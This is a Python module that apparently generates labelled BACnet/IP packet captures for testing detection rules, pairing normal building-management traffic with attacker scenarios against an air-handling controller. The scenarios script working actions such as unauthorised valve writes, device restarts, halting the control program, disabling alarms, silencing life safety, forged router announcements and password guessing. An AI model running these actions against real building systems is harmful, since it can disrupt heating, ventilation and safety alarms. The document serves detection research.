"""Proof captures of BACnet/IP: a workstation's normal work, and what a stranger does with a real stack."""

from __future__ import annotations

import asyncio
from collections.abc import Awaitable, Callable

from bacpypes3 import apdu as pdus  # type: ignore[import-untyped]  # a stack without types
from bacpypes3 import basetypes as types
from bacpypes3.basetypes import DateTime  # type: ignore[import-untyped]
from bacpypes3.pdu import LocalBroadcast  # type: ignore[import-untyped]
from bacpypes3.primitivedata import Date, Time  # type: ignore[import-untyped]

from compose.plant.bacnet_cell import air_handling
from compose.plant.bacnet_device import Client, client
from compose.plant.bacnet_raw import answer, bvlc, entry, npdu, say
from compose.plant.catalogue import capture, labelled
from compose.plant.lab import Lab

NORMAL, LATER = "bacnet/normal.pcap", "bacnet/normal-later.pcap"
_RULES = "BA01 BA01N BA02 BA02P BA03 BA04 BA04B BA05 BA06 BA06R BA07 BA08 BA08R BA09 BA10 BA11 BA12"
_EVERYBODY = "10.9.1.255"
Deed = Callable[[Client], Awaitable[None]]


def _do(lab: Lab, host: str, deed: Deed, seconds: float = 1.5) -> None:
    """Let `host` do something beside the cell's normal work."""

    async def by_stranger() -> None:
        async with client(host, 3999) as station:
            await deed(station)
            await asyncio.sleep(0.2)

    with air_handling(lab) as cell:
        cell.work(seconds)
        if host == "bms":
            lab["bms"].run(_as_coroutine(deed, cell.station))
        else:
            lab[host].run(by_stranger())


async def _as_coroutine(deed: Deed, station: Client) -> None:
    await deed(station)


@capture(
    NORMAL,
    "A workstation at work on an air-handling controller: found, polled, subscribed, set by hand and by schedule, the "
    "clock told to all.",
    "ahu bms",
    rules=_RULES,
    kind="benign",
    check={"bacapp.confirmed_service==14": 8, "bacapp.confirmed_service==15": 12},
)
def normal(lab: Lab) -> None:
    """Normal work."""
    with air_handling(lab) as cell:
        cell.work(12)


@capture(LATER, "The same work a while later.", "ahu bms", rules=_RULES, kind="benign", learn=NORMAL)
def normal_later(lab: Lab) -> None:
    """Normal work again."""
    with air_handling(lab) as cell:
        cell.work(8)


@capture(
    "bacnet/unauthorised-write.pcap",
    "A host that is no writer opens the heating valve, at the least and at a high priority, and renames the point.",
    "ahu bms att",
    rules="BA01 BA10",
    check={"bacapp.confirmed_service==15 && ip.src==10.9.1.66": 3},
)
@labelled("write by a stranger", "att", "ahu", "T0855 T0836", "BA01 BA10")
def unauthorised_write(lab: Lab) -> None:
    """Writes."""

    async def deed(station: Client) -> None:
        await station.write("ahu", "analog-output,1", "present-value", 100.0, 16)
        await station.write("ahu", "analog-output,1", "present-value", 100.0, 2)
        await station.write("ahu", "analog-value,1", "description", "mine")

    _do(lab, "att", deed)


@capture(
    "bacnet/override.pcap",
    "The workstation itself overrides the fan at priority 5 and takes the temperature out of service.",
    "ahu bms",
    rules="BA10 BA01N",
    learn=NORMAL,
)
@labelled("override by the workstation", "bms", "ahu", "T0835 T0836", "BA10 BA01N")
def override(lab: Lab) -> None:
    """Override."""

    async def deed(station: Client) -> None:
        await station.write("ahu", "binary-output,1", "present-value", "inactive", 5)
        await station.write("ahu", "analog-input,1", "out-of-service", True)

    _do(lab, "bms", deed)


@capture("bacnet/restart.pcap", "A stranger restarts the controller, warm and cold.", "ahu bms att", rules="BA02")
@labelled("restart", "att", "ahu", "T0816", "BA02")
def restart(lab: Lab) -> None:
    """ReinitializeDevice."""

    async def deed(station: Client) -> None:
        for state in ("warmstart", "coldstart"):
            await station.ask("ahu", pdus.ReinitializeDeviceRequest(reinitializedStateOfDevice=state))

    _do(lab, "att", deed)


@capture(
    "bacnet/program-stopped.pcap",
    "A stranger halts the control program, and puts the controller into backup and restore.",
    "ahu bms att",
    rules="BA02P BA01",
)
@labelled("program stopped, backup, restore", "att", "ahu", "T0858 T0843 T0845", "BA02P")
def program_stopped(lab: Lab) -> None:
    """Program and configuration."""

    async def deed(station: Client) -> None:
        await station.write("ahu", "program,1", "program-change", "halt")
        for state in ("startBackup", "endBackup", "startRestore", "endRestore"):
            await station.ask("ahu", pdus.ReinitializeDeviceRequest(reinitializedStateOfDevice=state))

    _do(lab, "att", deed)


@capture(
    "bacnet/silenced.pcap", "A stranger tells the controller to be silent for an hour.", "ahu bms att", rules="BA03"
)
@labelled("controller silenced", "att", "ahu", "T0803 T0814", "BA03")
def silenced(lab: Lab) -> None:
    """DeviceCommunicationControl."""

    async def deed(station: Client) -> None:
        request = pdus.DeviceCommunicationControlRequest(timeDuration=60, enableDisable="disable")
        await station.ask("ahu", request)

    _do(lab, "att", deed)


@capture(
    "bacnet/sweep.pcap",
    "A stranger asks all devices who they are, range by range and all at once, and for objects by name.",
    "ahu bms att",
    rules="BA04 BA04B",
    check={"bacapp.unconfirmed_service==8 && ip.src==10.9.1.66": 7},
)
@labelled("Who-Is sweep", "att", "ahu", "T0846 T0888", "BA04 BA04B")
def sweep(lab: Lab) -> None:
    """Who-Is and Who-Has."""

    async def deed(station: Client) -> None:
        for low in range(0, 6000, 1000):
            await station.who_is(low, low + 999, timeout=0.1)
        await station.who_is(timeout=0.1)
        await station.who_has(object_name="SupplyFan", timeout=0.1)

    _do(lab, "att", deed)


@capture(
    "bacnet/foreign-device.pcap",
    "By hand, the controller of the plant is no BBMD: a stranger registers as foreign device, writes the broadcast "
    "distribution table and a routing table; the controller's answers come from a table.",
    "ahu att",
    rules="BA05",
)
@labelled("foreign device and tables", "att", "ahu", "T0848 T0884", "BA05")
def foreign_device(lab: Lab) -> None:
    """Into the network."""
    done = bvlc(0, b"\0\0")
    route = bvlc(0x0A, npdu(b"\x06\x01\x07\xd2\x03\0", control=0x84))
    asked = [bvlc(5, b"\x0e\x10"), bvlc(1, entry("att", b"\xff\xff\xff\xff")), route]
    replies = {asked[0]: [done], asked[1]: [done], route: [bvlc(0x0A, npdu(b"\x07\0", control=0x80))]}
    device = lab["ahu"].begin(answer, "ahu", replies, 1.5)
    lab["att"].call(say, "att", "ahu", asked, 0.1, True)
    device.result()


@capture(
    "bacnet/objects-and-files.pcap",
    "A stranger overwrites the configuration file, makes and deletes objects, renames the controller.",
    "ahu bms att",
    rules="BA06",
)
@labelled("configuration changed", "att", "ahu", "T0843 T0809", "BA06")
def objects_and_files(lab: Lab) -> None:
    """Configuration."""

    async def deed(station: Client) -> None:
        part = types.AtomicWriteFileRequestAccessMethodChoiceStreamAccess(fileStartPosition=0, fileData=b"\0" * 200)
        way = types.AtomicWriteFileRequestAccessMethodChoice(streamAccess=part)
        await station.ask("ahu", pdus.AtomicWriteFileRequest(fileIdentifier="file,1", accessMethod=way))
        wanted = types.CreateObjectRequestObjectSpecifier(objectType="analog-value")
        await station.ask("ahu", pdus.CreateObjectRequest(objectSpecifier=wanted))
        await station.ask("ahu", pdus.DeleteObjectRequest(objectIdentifier="analog-value,77"))
        await station.write("ahu", "device,2301", "object-name", "AHU-X")

    _do(lab, "att", deed)


@capture("bacnet/file-read.pcap", "A stranger reads the configuration file.", "ahu bms att", rules="BA06R")
@labelled("configuration read", "att", "ahu", "T0845 T0882", "BA06R")
def file_read(lab: Lab) -> None:
    """AtomicReadFile."""

    async def deed(station: Client) -> None:
        for start in range(0, 1500, 500):
            part = types.AtomicReadFileRequestAccessMethodChoiceStreamAccess(
                fileStartPosition=start, requestedOctetCount=500
            )
            way = types.AtomicReadFileRequestAccessMethodChoice(streamAccess=part)
            await station.ask("ahu", pdus.AtomicReadFileRequest(fileIdentifier="file,1", accessMethod=way))

    _do(lab, "att", deed)


@capture(
    "bacnet/alarms-changed.pcap",
    "A stranger moves an alarm limit, turns an alarm off, and silences life safety.",
    "ahu bms att",
    rules="BA07",
)
@labelled("alarms changed", "att", "ahu", "T0838 T0878", "BA07")
def alarms_changed(lab: Lab) -> None:
    """Alarms."""

    async def deed(station: Client) -> None:
        await station.write("ahu", "analog-input,1", "high-limit", 500.0)
        await station.write("ahu", "analog-input,1", "event-enable", [0, 0, 0])
        silence = pdus.LifeSafetyOperationRequest(
            requestingProcessIdentifier=1, requestingSource="desk", request="silence"
        )
        await station.ask("ahu", silence)

    _do(lab, "att", deed)


@capture("bacnet/refusals.pcap", "A stranger tries objects that are not there.", "ahu bms att", rules="BA08")
@labelled("objects tried", "att", "ahu", "T0846 T0861", "BA08")
def refusals(lab: Lab) -> None:
    """Errors."""

    async def deed(station: Client) -> None:
        for number in range(14):
            await station.read("ahu", f"loop,{number}", "present-value")

    _do(lab, "att", deed)


@capture(
    "bacnet/router-injection.pcap",
    "By hand: a stranger says that it is the router to two networks.",
    "ahu att",
    rules="BA08R",
)
@labelled("false router", "att", "ahu", "T0830", "BA08R")
def router_injection(lab: Lab) -> None:
    """I-Am-Router-To-Network."""
    lab["att"].call(say, "att", _EVERYBODY, [bvlc(0x0B, npdu(b"\x01\x07\xd1\x07\xd2", control=0x80))] * 2, 0.2)


@capture("bacnet/clock.pcap", "A stranger sets the clock of all controllers back.", "ahu bms att", rules="BA09")
@labelled("clock set", "att", "ahu", "T0836", "BA09")
def clock(lab: Lab) -> None:
    """TimeSynchronization."""

    async def deed(station: Client) -> None:
        past = DateTime(date=Date("2020-01-01"), time=Time("00:00:00"))
        station.request(pdus.TimeSynchronizationRequest(time=past, destination=LocalBroadcast()))

    _do(lab, "att", deed)


@capture(
    "bacnet/passwords.pcap",
    "A stranger tries passwords on a restart, all of them wrong.",
    "ahu bms att",
    rules="BA11 BA02",
)
@labelled("passwords tried", "att", "ahu", "T0812 T0859", "BA11 BA02")
def passwords(lab: Lab) -> None:
    """Wrong passwords."""

    async def deed(station: Client) -> None:
        for word in ("filister", "1234", "sedge", "rush"):
            request = pdus.ReinitializeDeviceRequest(reinitializedStateOfDevice="warmstart", password=word)
            await station.ask("ahu", request)

    _do(lab, "att", deed)


@capture("bacnet/vendor-service.pcap", "A stranger calls a vendor's own service.", "ahu bms att", rules="BA12")
@labelled("vendor's service", "att", "ahu", "T0871", "BA12")
def vendor_service(lab: Lab) -> None:
    """ConfirmedPrivateTransfer."""

    async def deed(station: Client) -> None:
        await station.ask("ahu", pdus.ConfirmedPrivateTransferRequest(vendorID=35, serviceNumber=9))

    _do(lab, "att", deed)
